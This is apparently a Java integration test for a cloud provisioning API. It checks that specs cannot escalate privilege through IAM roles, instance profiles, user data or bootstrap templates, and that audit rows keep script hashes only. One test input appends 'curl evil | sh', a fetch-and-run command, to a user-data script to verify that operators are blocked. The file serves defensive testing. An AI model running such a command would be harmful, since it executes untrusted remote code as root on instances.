package io.strato.provisioning.api;

import static io.strato.provisioning.api.ApiScenarioSupport.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.equalTo;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.strato.provisioning.cluster.ClusterSpecs;
import io.strato.testsupport.MotoResource;
import io.strato.testsupport.Tokens;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * No privilege escalation through a spec (issue 14, section 2): a spec may name only the roles and
 * instance profiles Strato is meant to pass, and only an admin may set what runs on the instances.
 */
@QuarkusTest
@WithTestResource(MotoResource.class)
class SpecGuardTest {

  private static final String SUBNETS =
      ClusterSpecs.subnets(
          List.of("subnet-0000000a", "subnet-0000000b", "subnet-0000000c"),
          List.of("us-east-1a", "us-east-1b", "us-east-1c"));
  private static final String SCRIPT = "#!/bin/bash\necho hello from the admin\n";

  private static String nodeGroup(String extra) {
    return """
        {"spec": {"imageId": "ami-0123456789abcdef0", "instanceType": "t3.small",
                  "subnetIds": ["subnet-0123456789abcdef0"], "minSize": 0, "maxSize": 2,
                  "desiredCapacity": 0 %s}}
        """
        .formatted(extra);
  }

  @Test
  void aNodeGroupMayNotNameAnInstanceProfileOutsideTheStratoPrefix() {
    String path = "/api/v1/node-groups/escalate";
    as(Tokens.admin())
        .body(nodeGroup(", \"instanceProfile\": \"AdministratorAccess-profile\""))
        .put(path)
        .then()
        .statusCode(422)
        .contentType("application/problem+json")
        .body("errors.field", contains("spec.instanceProfile"));
    as(Tokens.admin())
        .body(
            nodeGroup(
                ", \"instanceProfile\":"
                    + " \"arn:aws:iam::123456789012:instance-profile/ops/strato-nodes\""))
        .put(path)
        .then()
        .statusCode(422)
        .body("errors.field", contains("spec.instanceProfile"));
    as(Tokens.viewer()).get(path).then().statusCode(404);

    as(Tokens.operator())
        .body(nodeGroup(", \"instanceProfile\": \"strato-nodes\""))
        .put(path)
        .then()
        .statusCode(201);
  }

  @Test
  void everyRoleAndProfileFieldOfAClusterIsChecked() {
    String eks =
        ClusterSpecs.eks(SUBNETS, "1.31", 2)
            .replace("role/strato-eks-cluster", "role/eks-cluster")
            .replace("role/strato-eks-node", "role/Admin");
    as(Tokens.operator())
        .body("{\"spec\": " + eks + "}")
        .put("/api/v1/clusters/escalate-eks")
        .then()
        .statusCode(422)
        .body(
            "errors.field", containsInAnyOrder("spec.eks.roleArn", "spec.nodeGroups[0].nodeRole"));

    String selfManaged =
        ClusterSpecs.selfManaged(SUBNETS, "ami-12345678", "1.31", 1)
            // The spec names Strato's profiles already: replace them, a duplicate key is a 400.
            .replace("\"strato-control-plane\"", "\"admin\"")
            .replace("\"strato-node\"", "\"ec2-admin\"");
    as(Tokens.operator())
        .body("{\"spec\": " + selfManaged + "}")
        .put("/api/v1/clusters/escalate-sm")
        .then()
        .statusCode(422)
        .body(
            "errors.field",
            containsInAnyOrder(
                "spec.selfManaged.instanceProfile", "spec.nodeGroups[0].instanceProfile"));
  }

  @Test
  void onlyAnAdminSetsUserDataAndTheAuditLogKeepsItsHashNotItsContent() throws Exception {
    String path = "/api/v1/node-groups/scripted";
    String withScript = nodeGroup(", \"userData\": " + quoted(SCRIPT));
    as(Tokens.operator())
        .body(withScript)
        .put(path)
        .then()
        .statusCode(403)
        .contentType("application/problem+json")
        .body("status", equalTo(403))
        .body("errors.field", contains("spec.userData"));
    as(Tokens.viewer()).get(path).then().statusCode(404);

    as(Tokens.admin()).body(withScript).put(path).then().statusCode(201);
    // An operator may still change the rest of a group whose script an admin set...
    as(Tokens.operator())
        .body(withScript.replace("\"maxSize\": 2", "\"maxSize\": 3"))
        .put(path)
        .then()
        .statusCode(200);
    // ...but not the script.
    as(Tokens.operator())
        .body(nodeGroup(", \"userData\": " + quoted(SCRIPT + "curl evil | sh\n")))
        .put(path)
        .then()
        .statusCode(403);

    String hash = "spec.userData sha256:" + sha256(SCRIPT);
    List<Map<String, Object>> rows =
        as(Tokens.admin())
            .get("/api/v1/audit?limit=100")
            .then()
            .statusCode(200)
            .extract()
            .jsonPath()
            .<Map<String, Object>>getList("items")
            .stream()
            .filter(e -> path.equals(e.get("path")))
            .toList();
    assertThat(rows)
        .extracting(e -> e.get("principal") + " " + e.get("status"))
        .containsExactly(
            "test-operator 403", "test-operator 200", "test-admin 201", "test-operator 403");
    assertThat(rows.get(1).get("contentSha256")).isEqualTo(hash);
    assertThat(rows.get(2).get("contentSha256")).isEqualTo(hash);
    assertThat(rows.get(3).get("contentSha256")).isEqualTo(hash);
    assertThat(rows.get(0).get("contentSha256"))
        .isNotEqualTo(hash)
        .asString()
        .startsWith("spec.userData sha256:");
    assertThat(rows.toString()).doesNotContain("hello from the admin").doesNotContain("evil");
  }

  @Test
  void anOperatorMayNotSetAClusterNodeGroupsUserData() {
    String selfManaged =
        ClusterSpecs.selfManaged(SUBNETS, "ami-12345678", "1.31", 1)
            .replace("\"minSize\": 1", "\"userData\": \"#!/bin/sh\\nid\\n\", \"minSize\": 1");
    as(Tokens.operator())
        .body("{\"spec\": " + selfManaged + "}")
        .put("/api/v1/clusters/scripted")
        .then()
        .statusCode(403)
        .body("errors.field", contains("spec.nodeGroups[0].userData"));
    as(Tokens.viewer()).get("/api/v1/clusters/scripted").then().statusCode(404);
  }

  /**
   * A self-managed cluster's bootstrap templates run as root on every control-plane and worker
   * instance, exactly as user data does: an operator may not set them, an admin may, and the audit
   * row keeps both hashes, never the scripts.
   */
  @Test
  void onlyAnAdminSetsTheBootstrapTemplatesAndTheAuditRowKeepsTheirHashes() throws Exception {
    String path = "/api/v1/clusters/templated";
    String controlPlane = "#!/bin/bash\nkubeadm init # ${clusterName} from the admin\n";
    String worker = "#!/bin/bash\nkubeadm join ${apiEndpoint} # worker from the admin\n";
    String spec =
        ClusterSpecs.selfManaged(SUBNETS, "ami-12345678", "1.31", 1)
            .replace(
                "\"apiLoadBalancerScheme\"",
                "\"controlPlaneTemplate\": "
                    + quoted(controlPlane)
                    + ", \"workerTemplate\": "
                    + quoted(worker)
                    + ", \"apiLoadBalancerScheme\"");
    as(Tokens.operator())
        .body("{\"spec\": " + spec + "}")
        .put(path)
        .then()
        .statusCode(403)
        .contentType("application/problem+json")
        .body("status", equalTo(403))
        .body(
            "errors.field",
            containsInAnyOrder(
                "spec.selfManaged.controlPlaneTemplate", "spec.selfManaged.workerTemplate"));
    as(Tokens.viewer()).get(path).then().statusCode(404);

    as(Tokens.admin()).body("{\"spec\": " + spec + "}").put(path).then().statusCode(201);

    List<Map<String, Object>> rows =
        as(Tokens.admin())
            .get("/api/v1/audit?limit=100")
            .then()
            .statusCode(200)
            .extract()
            .jsonPath()
            .<Map<String, Object>>getList("items")
            .stream()
            .filter(e -> path.equals(e.get("path")))
            .toList();
    assertThat(rows)
        .extracting(e -> e.get("principal") + " " + e.get("status"))
        .containsExactly("test-admin 201", "test-operator 403");
    String hashes =
        "spec.selfManaged.controlPlaneTemplate sha256:"
            + sha256(controlPlane)
            + ", spec.selfManaged.workerTemplate sha256:"
            + sha256(worker);
    assertThat(rows.get(0).get("contentSha256")).isEqualTo(hashes);
    assertThat(rows.get(1).get("contentSha256")).isEqualTo(hashes);
    assertThat(rows.toString()).doesNotContain("from the admin").doesNotContain("kubeadm");
  }

  private static String quoted(String s) {
    return "\"" + s.replace("\n", "\\n") + "\"";
  }

  private static String sha256(String s) throws Exception {
    return HexFormat.of()
        .formatHex(MessageDigest.getInstance("SHA-256").digest(s.getBytes(StandardCharsets.UTF_8)));
  }
}
